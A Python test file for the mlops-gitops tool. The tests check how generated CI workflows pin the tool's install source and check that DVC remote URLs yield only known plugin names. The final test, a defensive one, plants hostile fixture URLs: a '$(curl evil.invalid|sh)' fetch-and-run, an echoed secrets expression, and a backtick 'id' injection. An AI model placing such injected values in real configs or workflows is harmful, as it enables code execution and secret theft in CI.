"""How the generated workflows install mlops-gitops: the exact version that generated them, from where
pip recorded it came from (PEP 610 direct_url.json), or as the manifest says."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlops_gitops.errors import UsageError
from mlops_gitops.locks import REMOTE_PLUGINS
from mlops_gitops.render.toolsource import dvc_plugins, tool_source

SHA = "0123456789abcdef0123456789abcdef01234567"


def test_an_index_install_pins_the_version() -> None:
    source = tool_source(None, None, "1.2.3")
    assert (source.kind, source.requirement, source.warning) == ("index", "mlops-gitops==1.2.3", None)
    assert source.pip_requirement == "mlops-gitops==1.2.3"


def test_a_git_install_pins_its_commit() -> None:
    direct = {
        "url": "https://github.com/acme/mlops-gitops.git",
        "vcs_info": {"vcs": "git", "commit_id": SHA, "requested_revision": "main"},
    }
    source = tool_source(None, json.dumps(direct), "1.2.3")
    assert source.kind == "vcs" and source.warning is None
    assert source.requirement == f"mlops-gitops @ git+https://github.com/acme/mlops-gitops.git@{SHA}"
    assert source.pip_requirement == source.requirement
    sub = {**direct, "subdirectory": "pkg"}
    assert tool_source(None, json.dumps(sub)).requirement.endswith(f"@{SHA}#subdirectory=pkg")


def test_an_archive_install_pins_its_hash() -> None:
    direct = {
        "url": "https://files.example.com/mlops_gitops-1.2.3-py3-none-any.whl",
        "archive_info": {"hashes": {"sha256": "ab" * 32}},
    }
    source = tool_source(None, json.dumps(direct))
    assert (
        source.requirement
        == f"mlops-gitops @ https://files.example.com/mlops_gitops-1.2.3-py3-none-any.whl#sha256={'ab' * 32}"
    )
    assert source.pip_requirement.startswith("mlops-gitops @ https://")


def test_a_local_install_warns_and_names_what_to_set() -> None:
    editable = tool_source(
        None, json.dumps({"url": "file:///home/me/mlops-gitops", "dir_info": {"editable": True}}), "1.2.3"
    )
    assert editable.requirement == "mlops-gitops==1.2.3"
    assert (
        editable.warning
        and "file:///home/me/mlops-gitops" in editable.warning
        and "python.tool" in editable.warning
    )
    local_git = tool_source(
        None, json.dumps({"url": "file:///srv/mlops-gitops", "vcs_info": {"vcs": "git", "commit_id": SHA}})
    )
    assert local_git.requirement == f"mlops-gitops @ git+file:///srv/mlops-gitops@{SHA}"
    assert local_git.warning and "cannot reach" in local_git.warning


def test_the_manifest_wins() -> None:
    wheel = tool_source(
        "wheels/mlops_gitops-1.2.3-py3-none-any.whl", json.dumps({"url": "file:///x", "dir_info": {}})
    )
    assert (wheel.kind, wheel.warning) == ("wheel", None)
    assert wheel.pip_requirement == "./wheels/mlops_gitops-1.2.3-py3-none-any.whl"
    spec = tool_source(f"mlops-gitops @ git+https://example.com/fork.git@{SHA}")
    assert spec.pip_requirement == f"mlops-gitops @ git+https://example.com/fork.git@{SHA}"


# .dvc/config is the repository's, so a pull request can write it: only a known plugin's key may
# reach the generated install step, whatever a remote's URL says.
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    urls=st.lists(
        st.one_of(
            st.sampled_from(
                ["s3://b/p", "gs://b", "gdrive://id/x", "azure://c/p", "https://h/x", "/local/store"]
            ),
            st.text(
                alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r\n"),
                max_size=40,
            ),
        ),
        max_size=4,
    )
)
def test_the_plugins_ci_installs_come_only_from_the_known_table(tmp_path: Path, urls: list[str]) -> None:
    (tmp_path / ".dvc").mkdir(exist_ok=True)
    config = "".join(f"['remote \"r{i}\"']\n    url = {url.replace('%', '')}\n" for i, url in enumerate(urls))
    (tmp_path / ".dvc" / "config").write_text(config, encoding="utf-8")
    try:
        plugins = dvc_plugins(tmp_path)
    except UsageError:
        return  # a config DVC could not read either: one line, nothing rendered
    assert set(plugins) <= set(REMOTE_PLUGINS)
    assert list(plugins) == sorted(set(plugins))


def test_a_hostile_remote_url_renders_only_its_scheme(tmp_path: Path) -> None:
    (tmp_path / ".dvc").mkdir()
    (tmp_path / ".dvc" / "config").write_text(
        "['remote \"evil\"']\n    url = s3://b/$(curl evil.invalid|sh); echo ${{ secrets.X }}\n"
        "['remote \"drive\"']\n    url = gdrive://x`id`\n",
        encoding="utf-8",
    )
    assert dvc_plugins(tmp_path) == ("gdrive", "s3")
